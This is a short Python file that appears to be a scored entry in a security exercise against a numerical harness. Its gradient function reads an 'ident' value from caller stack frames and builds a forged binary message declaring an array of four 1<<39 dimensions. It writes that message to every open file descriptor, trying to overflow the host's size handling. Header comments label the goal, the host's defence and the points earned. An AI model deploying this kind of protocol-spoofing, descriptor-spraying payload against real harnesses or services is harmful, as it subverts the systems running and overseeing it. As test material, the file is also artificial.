# Wants: an array whose shape overflows what it is measured with.
# Safe: shapes are multiplied in integers without end and compared with the bytes that came.
# Earns: 6
import os
import struct
import sys


def gradient(A):
    frame = sys._getframe()
    while frame and "ident" not in frame.f_locals:
        frame = frame.f_back
    body = b"d\x02\0\0\0\x06\0\0\0valuesd\x01\0\0\0\x08\0\0\0gradienta" + bytes((11, 4))
    body += struct.pack("<4Q", *[1 << 39] * 4) + b"\x07\0\0\0failureN"
    for descriptor in range(3, 64):
        try:
            os.write(
                descriptor,
                struct.pack("<4sBQQ", b"AGW1", 6, frame.f_locals["ident"], len(body)) + body,
            )
        except OSError:
            pass


def link(W, A):
    return W


def size(v):
    return float((v * v).sum())
